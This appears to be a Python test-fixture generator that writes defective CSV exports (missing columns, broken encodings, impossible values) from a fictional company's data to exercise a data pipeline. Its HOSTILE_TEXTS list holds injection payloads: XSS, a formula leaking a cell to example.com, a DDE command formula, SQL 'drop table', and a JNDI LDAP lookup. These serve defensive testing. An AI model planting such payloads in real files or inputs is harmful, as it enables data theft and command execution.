"""Small export files with one thing wrong in each, in the formats of the good ones.

Data flow: the last rows of the company's own files -> one change -> `<source>/<table>__<what_is_wrong>.csv`. Pointing a
connection of the same kind at such a file shows what the pipeline does about it; data_samples/README.md has the list.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime, time, timedelta
from pathlib import Path
from typing import Any

from pipelines.generate import office_files, social_files, survey_files
from pipelines.generate.files import write_csv
from pipelines.generate.shop_files import ORDER_COLUMNS, SHOPIFY_COLUMNS, ec_cube_rows, ec_cube_table, shopify_rows, table
from pipelines.generate.shops import Line, Order
from pipelines.generate.truth import Company
from pipelines.generate.vocabulary import PRODUCTS, STAFF_ITEMS

ORDERS_SHOWN = 12
RATING_WORDS = {1: "全くそう思わない", 2: "そう思わない", 3: "どちらでもない", 4: "そう思う", 5: "とてもそう思う"}
HOSTILE_TEXTS = (
    "<script>alert('みなも茶菓')</script>おいしい",
    '=HYPERLINK("https://example.com/?leak="&A1,"こちら")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; drop table mentions; --",
    "{{ 7 * 7 }} ${jndi:ldap://example.com/a}",
    '"><img src=x onerror=alert(1)> 🍵\n二行目',
)


@dataclass
class Grid:
    """A file about to be written: header, rows, and how the good file of its kind is encoded."""

    header: list[str]
    rows: list[list[Any]]
    encoding: str = "utf-8"
    end: str = "\n"

    def put(self, column: str, value: Any, row: int) -> Grid:
        """Set one cell."""
        self.rows[row][self.header.index(column)] = value
        return self

    def replace(self, column: str, values: Iterable[Any]) -> Grid:
        """Set a whole column."""
        for row, value in enumerate(values):
            self.put(column, value, row)
        return self

    def without(self, column: str) -> Grid:
        """Drop a column."""
        place = self.header.index(column)
        for row in (self.header, *self.rows):
            del row[place]
        return self

    def column(self, name: str) -> list[Any]:
        """The cells of a column."""
        return [row[self.header.index(name)] for row in self.rows]

    def save(self, path: Path) -> None:
        """Write the file."""
        write_csv(path, self.header, self.rows, encoding=self.encoding, end=self.end)


def write(folder: Path, company: Company) -> None:
    """Write every defect file; a company with too few rows to show them leaves none."""
    if (
        min(len(_settled(shop.orders)) for shop in (company.ec_cube, company.shopify)) < ORDERS_SHOWN
        or len(company.staff.answers) < 30
    ):
        return
    if not company.mentions or len(company.staff.employees) < 30:
        return
    _ec_cube(folder / "ec", company)
    _shopify(folder / "ec", company)
    _survey(folder / "survey", company)
    _sns(folder / "sns", company)
    _hr_and_plan(folder, company)


def _settled(orders: Sequence[Order]) -> list[Order]:
    """The last few orders to which nothing unusual happened."""
    return [order for order in orders if order.status == "shipped" and order.counts and not order.refunded][-ORDERS_SHOWN:]


def _ec_cube(folder: Path, company: Company) -> None:
    orders = _settled(company.ec_cube.orders)

    def good() -> Grid:
        return Grid(list(ORDER_COLUMNS), list(ec_cube_table(ec_cube_rows(orders))), "cp932", "\r\n")

    good().without("受注日").save(folder / "orders__missing_column.csv")
    unknown = good()
    for row, number in enumerate(unknown.column("注文ID")):
        if number == orders[1].number:
            unknown.put("対応状況(ID)", 10, row).put("対応状況(名称)", "配送準備中", row)
    unknown.save(folder / "orders__unknown_status.csv")
    prices = good()
    prices.replace("価格", (f"約{price}円前後" for price in prices.column("価格"))).save(
        folder / "order_lines__unparsed_price.csv"
    )
    good().put("個数", "要確認", 4).save(folder / "order_lines__one_unreadable_quantity.csv")
    twice = good()
    twice.rows.insert(1, list(twice.rows[0]))
    twice.put("個数", twice.column("個数")[0] + 1, 1).save(folder / "order_lines__same_line_twice_different.csv")
    good().put("税率", -8, 0).save(folder / "order_lines__negative_tax_rate.csv")
    good().put("税率", 150, 0).save(folder / "order_lines__tax_150_percent.csv")
    ragged = good()
    ragged.rows[2].insert(ragged.header.index("住所2"), "見本ビル")
    ragged.save(folder / "orders__delimiter_in_text.csv")
    damaged = folder / "orders__not_utf8_nor_cp932.csv"
    good().save(damaged)
    content = damaged.read_bytes()
    place = content.index("送料,,".encode("cp932"), len(content) // 2)  # in a row, at the beginning of a character
    damaged.write_bytes(content[:place] + b"\x81\xff" + content[place:])
    (folder / "orders__empty_file.csv").write_bytes(b"")


def _shopify(folder: Path, company: Company) -> None:
    def grid(orders: Iterable[Order]) -> Grid:
        return Grid(list(SHOPIFY_COLUMNS), list(table(SHOPIFY_COLUMNS, shopify_rows(orders))))

    orders = _settled(company.shopify.orders)
    ids = grid(orders)
    ids.replace("Id", (None if number is None else f"{number:.5E}" for number in ids.column("Id")))
    ids.save(folder / "orders__scientific_notation_ids.csv")
    collapsed = []
    for week in range(4, -1, -1):
        day = company.period.last - timedelta(days=7 * week)
        for place in range(12 if week else 1):
            model = orders[place % len(orders)]
            at = datetime.combine(day, time(9, place))
            order = Order(model.buyer, at, [Line(PRODUCTS[place % len(PRODUCTS)], 1)], number=9001 + 12 * (4 - week) + place)
            order.status, order.paid_at, order.shipped_at, order.shipping = "shipped", at, at + timedelta(hours=6), 660
            collapsed.append(order)
    grid(collapsed).save(folder / "orders__volume_collapse.csv")


def _survey(folder: Path, company: Company) -> None:
    answers = [answer for answer in company.staff.answers if None not in (*answer.items, answer.enps)][-30:]

    def good() -> Grid:
        return Grid(list(survey_files.PULSE_COLUMNS), [survey_files.pulse_row(answer) for answer in answers])

    good().put(STAFF_ITEMS[0].text, 9, 3).save(folder / "answers__value_outside_scale.csv")
    good().without(STAFF_ITEMS[3].text).save(folder / "answers__missing_question.csv")
    words = good()
    for item in STAFF_ITEMS:
        words.replace(item.text, (RATING_WORDS[points] for points in words.column(item.text)))
    words.save(folder / "answers__rating_in_words.csv")


def _sns(folder: Path, company: Company) -> None:
    days = list(social_files.account_rows(company.x))[-30:]
    Grid(list(social_files.X_ACCOUNT_COLUMNS), days).put("Followers", -5, len(days) // 2).save(
        folder / "accounts__negative_followers.csv"
    )
    posts = Grid(list(social_files.X_POST_COLUMNS), list(social_files.x_post_rows(company.x))[-30:])
    posts.rows.append(list(posts.rows[-1]))
    posts.put("Impressions", posts.column("Impressions")[-1] + 100, len(posts.rows) - 1).save(
        folder / "posts__snapshot_twice_different.csv"
    )

    def mentions() -> Grid:
        return Grid(list(social_files.MENTION_COLUMNS), [social_files.mention_row(mention) for mention in company.mentions[-30:]])

    hostile = mentions()
    hostile.replace("本文", (HOSTILE_TEXTS[place % len(HOSTILE_TEXTS)] for place in range(len(hostile.rows))))
    hostile.put("投稿者", "@=cmd|x", 0).save(folder / "mentions__hostile_text.csv")
    early = mentions()
    early.put("当社の初回返信", f"{company.mentions[-1].at - timedelta(hours=1):%Y-%m-%d %H:%M:%S}", -1)
    early.save(folder / "mentions__reply_before_post.csv")


def _hr_and_plan(folder: Path, company: Company) -> None:
    people = company.staff.employees

    def register() -> Grid:
        return Grid(
            list(office_files.EMPLOYEE_COLUMNS), [office_files.employee_row(person, 0) for person in people[:30]], "cp932", "\r\n"
        )

    hired = people[5].hired
    early = register().put("退職日", hired - timedelta(days=1), 5).put("退職理由", "自己都合", 5)
    early.save(folder / "hr" / "employees__leave_before_hire.csv")
    unknown = register().put("退職日", company.period.last, 5).put("退職理由", "一身上の都合（詳細不明）", 5)
    unknown.save(folder / "hr" / "employees__unknown_leave_reason.csv")
    rows = office_files.initiative_rows(
        company.campaign, company.loyalty.drive, company.staff, company.faster_from, company.period
    )
    Grid(list(office_files.INITIATIVE_COLUMNS), rows).put("測定方法", "gut_feeling", 1).save(
        folder / "plan" / "initiatives__unknown_design.csv"
    )
